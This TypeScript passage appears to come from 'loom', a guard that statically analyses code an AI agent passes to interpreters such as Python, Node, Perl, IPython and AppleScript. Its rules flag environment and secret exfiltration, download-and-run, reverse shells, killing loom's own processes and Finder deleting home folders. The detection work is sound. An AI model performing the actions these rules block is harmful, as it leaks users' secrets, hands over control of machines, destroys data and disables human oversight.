  // Code that talks to the network and takes the whole environment as a value sends every token in it.
  if ((NET_TEXT.test(code) || netModule) && WHOLE_ENV.test(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code sends every environment variable over the network`);
  // Processes found by a name or command line that is loom's, then signalled: switching the guard off.
  if (KILL_CALL.test(code) && PROCESS_FINDER.test(code) && LOOM_PROCESS.test(` ${code.replace(/["'`*,\[\]()]/g, ' ')} `)) ctx.analyzer.hit('modify-loom', 'deny', ctx.segment, `${lang} code finds loom's own processes and signals them: the agent may not switch off its guard`);
  if ((NET_TEXT.test(code) || netModule || /\bfile_get_contents\b/.test(code)) && secretEnvInRequest(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code puts a secret environment variable in a request's URL or body: it leaves the machine`);
  if ((NET_TEXT.test(code) || netModule) && EXEC_TEXT.test(code)) ctx.analyzer.hit('pipe-download-to-interpreter', 'deny', ctx.segment, `${lang} code runs what it downloads`);
  // A socket handed to a shell (dup2 onto stdio, a pty, pipes to a spawned sh): a reverse shell.
  if (CODE_SOCKET.test(code) && CODE_SHELL_ON_SOCKET.test(code)) ctx.analyzer.hit('reverse-shell', 'deny', ctx.segment, `${lang} code connects a socket and gives it to a shell: whoever is on the other end controls the machine`);
}

/** IPython code (ipython -c, a notebook cell): its Python, and each shell or other code its escapes run, analysed as that language. */
export function analyzeIpythonCode(code: string, ctx: CodeContext): void {
  for (const part of ipythonParts(code).slice(0, 64)) {
    if (part.lang === 'sh') ctx.analyzer.analyzeSource(part.code, ctx.depth + 1, `${ctx.via} > ipython ${part.how}`, ctx.cwd, new Map());
    else if (part.lang === 'powershell') ctx.analyzer.analyzeSource(`pwsh -Command ${quoteWord(part.code)}`, ctx.depth + 1, `${ctx.via} > ipython ${part.how}`, ctx.cwd, new Map());
    else analyzeInterpreterCode(part.lang, part.code, part.how === 'ipython' ? ctx : { ...ctx, via: `${ctx.via} > ipython ${part.how}` });
  }
}

/** Standard library modules that do what a program does, run as `python -m MODULE ARGS`. */
const PYTHON_MODULE_PROGRAMS: Record<string, string> = { base64: 'base64', 'json.tool': 'cat', gzip: 'gzip', zipfile: 'zip', tarfile: 'tar', uu: 'uuencode', quopri: 'cat', tokenize: 'cat', 'pickletools': 'cat', 'encodings.rot_13': 'cat', shutil: 'cp' };

function pythonModuleAsProgram(argv: string[]): string[] | undefined {
  for (let k = 1; k < argv.length - 1; k++) {
    if (argv[k] === '-m' && own(PYTHON_MODULE_PROGRAMS, argv[k + 1])) return [PYTHON_MODULE_PROGRAMS[argv[k + 1]], ...argv.slice(k + 2)];
    if (!argv[k].startsWith('-') || argv[k] === '-c') return undefined;
  }
  return undefined;
}

/** `python -m IPython ARGS`: IPython's own argv (the module's options follow it). */
function ipythonModuleArgv(argv: string[]): string[] | undefined {
  for (let k = 1; k < argv.length - 1; k++) {
    if (argv[k] === '-m' && argv[k + 1] === 'IPython') return ['ipython', ...argv.slice(k + 2)];
    if (argv[k] === '-mIPython') return ['ipython', ...argv.slice(k + 1)];
    if (!argv[k].startsWith('-')) return undefined;
  }
  return undefined;
}

// ---------------------------------------------------------------- the rule

/** Code given on an interpreter's command line: every spelling of the code flag (`-c"..."`, `-Ic`, `--eval=`, `-le`, `-pe`, `deno eval`). */
export function interpreterCode(spec: InterpreterSpec, argv: string[]): string[] | undefined {
  const codes: string[] = [];
  for (let k = 1; k < argv.length; k++) {
    const a = argv[k];
    if (a === '--') break;
    if (spec.evalSubcommand && k === 1 && a === spec.evalSubcommand) {
      const rest = argv.slice(2).filter((x) => !x.startsWith('-'));
      if (rest[0] !== undefined) codes.push(rest[0]);
      return codes;
    }
    if (spec.evalSubcommand && k === 1 && !a.startsWith('-')) return undefined;
    if (!a.startsWith('-') || a === '-') break;
    if (a.startsWith('--')) {
      const eq = a.indexOf('=');
      const key = eq < 0 ? a : a.slice(0, eq);
      if (spec.codeLong.includes(key)) {
        codes.push(eq < 0 ? argv[++k] ?? '' : a.slice(eq + 1));
        if (!MANY_CODE_OPTIONS.includes(spec.lang)) return codes;
        continue;
      }
      if (spec.argLong.includes(key) && eq < 0) k++;
      continue;
    }
    // Node's -e / -p / -pe never take their code attached.
    if (spec.lang === 'node' && /^-[ep]+$/.test(a)) {
      codes.push(argv[++k] ?? '');
      return codes;
    }
    // A cluster: -Ic, -le, -pe, -c"code", -lne, -i.bak, -0777
    const tails = (CLUSTER_TAIL as Record<string, Record<string, string>>)[spec.lang] ?? {};
    for (let i = 1; i < a.length; i++) {
      const l = a[i];
      if (spec.codeShort.includes(l)) {
        codes.push(i + 1 < a.length ? a.slice(i + 1) : argv[++k] ?? '');
        break;
      }
      if (spec.moduleShort.includes(l)) return codes.length ? codes : undefined;
      if (spec.argShort.includes(l)) {
        if (i + 1 >= a.length) k++;
        break;
      }
      const tail = tails[l];
      if (tail === 'any') break;
      if (tail === 'octal') while (i + 1 < a.length && /[0-7]/.test(a[i + 1])) i++;
      if (tail === 'digits') while (i + 1 < a.length && /[0-9]/.test(a[i + 1])) i++;
      if (l === '0' && a[i + 1] === 'x') while (i + 1 < a.length && /[0-9a-fA-Fx]/.test(a[i + 1])) i++;
    }
    if (codes.length && !MANY_CODE_OPTIONS.includes(spec.lang)) return codes;
  }
  return codes.length ? codes : undefined;
}

/** Whether the interpreter reads its program from stdin: no code option and no script operand (or `-`, `/dev/stdin`). */
function programOnStdin(spec: InterpreterSpec, argv: string[]): boolean {
  if (spec.noStdinProgram) return false;
  // deno run -A - / bun run -: the script operand `-` is stdin.
  if (spec.runSubcommand && argv[1] === spec.runSubcommand) return argv.slice(2).find((a) => !a.startsWith('-') || a === '-') === '-' || argv.slice(2).includes('/dev/stdin');
  for (let k = 1; k < argv.length; k++) {
    const a = argv[k];
    if (a === '-' || a === '/dev/stdin') return true;
    if (!a.startsWith('-')) return spec.evalSubcommand !== undefined && false;
    if (a.length > 1 && a[1] !== '-' && [...a.slice(1)].some((l) => spec.moduleShort.includes(l))) return false;
    if (spec.argLong.includes(a) || (a.length === 2 && spec.argShort.includes(a[1]))) k++;
  }
  return true;
}

/** Static text an upstream `echo` / `printf` pipes in. */
function pipedText(r: RuleContext): string | undefined {
  if (r.cmd.stage === 0) return undefined;
  const up = r.pipe.filter((c) => c.stage === r.cmd.stage - 1)[0];
  if (!up || up.words.some((w) => w.dynamic)) return undefined;
  const w = up.words.map((x) => x.text);
  if (w[0] === 'echo') return w.slice(1).filter((x, i) => !(i === 0 && /^-[neE]+$/.test(x))).join(' ').replace(/\\n/g, '\n');
  if (w[0] === 'printf' && w[1] !== undefined) {
    if (/^%s(?:\\n)?$/.test(w[1])) return w.slice(2).join(w[1].includes('\\n') ? '\n' : '');
    if (!w[1].includes('%')) return w[1].replace(/\\n/g, '\n');
  }
  if (w[0] === 'cat' && up.heredoc && !up.heredoc.dynamic && w.length === 1) return up.heredoc.text;
  return undefined;
}

const interpreters: Rule = (r: RuleContext) => {
  const spec = interpreterOf(r.name);
  if (!spec) return;
  // IPython reads its own syntax around Python (`!cmd`, `%system`, `%%bash`); `python -m IPython` is IPython too.
  // `python3 -m base64 FILE`, `-m json.tool FILE`, `-m tarfile -c out.tar DIR`: the module is the program it stands for.
  const asProgram = spec.lang === 'python' ? pythonModuleAsProgram(r.argv) : undefined;
  if (asProgram && r.depth < 8) {
    const c: SimpleCommand = { ...r.cmd, words: asProgram.map((text) => ({ text, dynamic: false, quoted: false, glob: false })), assignments: [] };
    r.analyzer.analyzeCommand(c, r.depth + 1, `${r.via} > ${r.name} -m ${r.argv[r.argv.indexOf('-m') + 1] ?? ''}`, r.cwd, [c], r.vars);
  }
  const moduleArgv = spec.lang === 'python' ? ipythonModuleArgv(r.argv) : undefined;
  const ipython = IPYTHON_PROGRAMS.test(r.name) || moduleArgv !== undefined;
  const argv = moduleArgv ?? r.argv;
  let codes = interpreterCode(spec, argv);
  if (!codes && spec.lang !== 'applescript' && programOnStdin(spec, argv)) {
    // A script fed on stdin: a heredoc, a here-string, or static text piped in.
    const here = r.cmd.heredoc && !r.cmd.heredoc.dynamic ? r.cmd.heredoc.text : undefined;
    const str = r.cmd.redirects.find((x) => x.op === '<<<' && !x.target.dynamic)?.target.text;
    const fed = here ?? str ?? pipedText(r);
    if (fed !== undefined) codes = [fed];
  }
  if (!codes) return;
  const code = codes.join('\n');
  const ctx: CodeContext = { analyzer: r.analyzer, cwd: r.cwd, depth: r.depth, via: `${r.via} > ${r.name}`, segment: r.segment };
  if (r.words.some((w) => w.dynamic) && r.argv.some((a) => a.includes('\u0000') && codes.some((c) => c.includes(a) || a.includes(c)))) {
    // Code that is partly a substitution: judge what is known, the rest is dynamic.
    if (codes.every((c) => c.replace(/\u0000\S*/g, '').trim() === '')) {
      r.analyzer.markRunsSubstitution(r.segment, r.name);
      r.analyzer.hit('dynamic-command', 'ask', r.segment, `${r.name} runs code only known at run time`);
      return;
    }
  }
  if (ipython) analyzeIpythonCode(code, ctx);
  else analyzeInterpreterCode(spec.lang, code, ctx);
  // perl/ruby -n/-p loop over the lines of the files named after the code (`-ne`, `-lpe`, `-pe1`: the cluster
  // before its `e`), and `<>` / ARGF in the code read them too: they are read.
  const loops = r.argv.some((a) => /^-[^-]/.test(a) && /[np]/.test(a.slice(1).split(/[eE]/)[0]));
  const readsArgs = spec.lang === 'perl' ? /<<?>>?|<ARGV>/.test(code) : /\bARGF\b|\$<|(?:^|[^.\w])(?:gets|readlines)\b/.test(code);
  if ((spec.lang === 'perl' || spec.lang === 'ruby') && (loops || readsArgs)) {
    const at = r.argv.findIndex((a, i) => i > 0 && codes!.some((c) => a === c || a.endsWith(c)));
    if (at > 0) for (const f of r.argv.slice(at + 1)) if (!f.startsWith('-') && f !== '') readsPath(r.analyzer, f, r.cwd, r.segment);
  }
};

/** AppleScript's names for folders (`path to documents folder`, Finder's `home`, `startup disk`), as paths. */
const APPLE_FOLDERS: Record<string, string> = { 'home folder': '~', home: '~', 'documents folder': '~/Documents', 'desktop folder': '~/Desktop', 'downloads folder': '~/Downloads', 'library folder': '~/Library', 'pictures folder': '~/Pictures', 'music folder': '~/Music', 'movies folder': '~/Movies', 'startup disk': '/', 'users folder': '/Users', 'applications folder': '/Applications', 'system folder': '/System' };

/**
 * Finder told to delete something (`tell application "Finder" to delete (path to home folder)`, or inside a
 * `tell application "Finder"` block): the item goes to the Trash, the next `empty trash` for good, and the folder is
 * gone from where every program expects it. Judged as a recursive delete of the path it names.
 */
function finderDeletes(code: string, ctx: CodeContext): void {
  // The `tell` may be in an earlier `-e` line than the `delete`.
  if (!/tell\s+application\s+"Finder"/i.test(code) && !/tell\s+application\s+\\?"Finder/i.test(ctx.segment)) return;
  const re = /\bdelete\s+(?:\(\s*)?((?:every\s+(?:item|file|folder)\s+of\s+)?(?:\(\s*)?(?:path\s+to\s+(?:\w+\s+){0,2}?(?:home\s+folder|\w+\s+folder|startup\s+disk)(?:\s+from\s+\w+\s+domain)?|(?:folder|item|disk)\s+"[^"]{0,400}"(?:\s+of\s+(?:home|startup\s+disk))?|POSIX\s+file\s+"[^"]{0,400}"|home|startup\s+disk))/gi;
  const known = [...code.matchAll(re)];
  if ((code.match(/\bdelete\b/gi) ?? []).length > known.length) ctx.analyzer.hit('dynamic-command', 'ask', ctx.segment, 'osascript tells Finder to delete an item only known at run time');
  for (const m of known) {
    const t = m[1];
    const every = /^every\s/i.test(t);
    let path: string | undefined;
    const posixFile = /POSIX\s+file\s+"([^"]*)"/i.exec(t);
    const named = /(?:folder|item|disk)\s+"([^"]*)"(?:\s+of\s+(home|startup\s+disk))?/i.exec(t);
    const folder = /(home\s+folder|\w+\s+folder|startup\s+disk|\bhome)\b/i.exec(t.replace(/^every\s+\w+\s+of\s+/i, ''));
    if (posixFile) path = posixFile[1];
    else if (named) path = named[2] ? `${/home/i.test(named[2]) ? '~' : ''}/${named[1].replace(/:/g, '/')}` : named[1].includes(':') ? '/' + named[1].split(':').slice(1).join('/') : named[1];
    else if (folder) path = APPLE_FOLDERS[folder[1].toLowerCase().replace(/\s+/g, ' ')];
    if (!path) continue;
    const full = every ? path.replace(/\/?$/, '/*') : path;
    deletesPath(ctx.analyzer, full.startsWith('~') ? ctx.analyzer.opts.home + full.slice(1) : full, ctx.cwd, ctx.segment, { recursive: true });
  }
}

export const INTERPRETER_RULES: Rule[] = [interpreters];
export const languageOf = (name: string): Language | undefined => interpreterOf(posix.basename(name))?.lang;
